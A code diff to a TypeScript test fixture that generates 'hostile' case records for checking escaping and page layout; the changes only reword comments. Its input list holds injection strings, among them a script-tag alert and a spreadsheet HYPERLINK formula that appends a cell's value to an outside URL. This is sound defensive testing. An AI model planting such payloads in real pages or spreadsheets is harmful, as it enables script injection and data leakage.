@@ -1,7 +1,7 @@
 import type { Case, Source } from '../../src/domain/case/case.ts'
 import { makeCase, makeEvent, makeNotice, makeSource } from './make-case.ts'
 
-/** Texts that break what is careless with them. */
+/** Texts that break code without proper escaping or layout. */
 const TEXTS: readonly string[] = [
   '<script>alert(1)</script>',
   '=HYPERLINK("https://example.org?"&A1)',
@@ -22,10 +22,10 @@ const TEXTS: readonly string[] = [
   'a_x0041_b _x005F_x0041_ _X000D_',
 ]
 
-/** Cases whose every text is hostile; the same for the same number. */
+/** Cases in which every text is hostile; always the same for the same count. */
 export function makeHostileCases(count: number): readonly Case[] {
   return Array.from({ length: count }, (_, i) => {
-    // The long one only now and then: it says the same thing each time, over pages.
+    // The long text only in every twentieth case: it fills pages and tests the same thing each time.
     const text = (k: number) => {
       const at = (i * 3 + k) % TEXTS.length
       return (at === 5 && i % 20 !== 0 ? TEXTS[0] : TEXTS[at]) ?? ''
@@ -33,7 +33,7 @@ export function makeHostileCases(count: number): readonly Case[] {
     return makeCase({
       id: `hostile-${i}`,
       person: {
-        // Names are headings, entries of the contents, bookmarks and cells.
+        // Long names too: they become headings, entries of the contents, bookmarks and cells.
         name: (i % 20 === 10 ? TEXTS[5] : text(0)) ?? '',
         aliases: [text(1), text(2)],
         description: text(3),
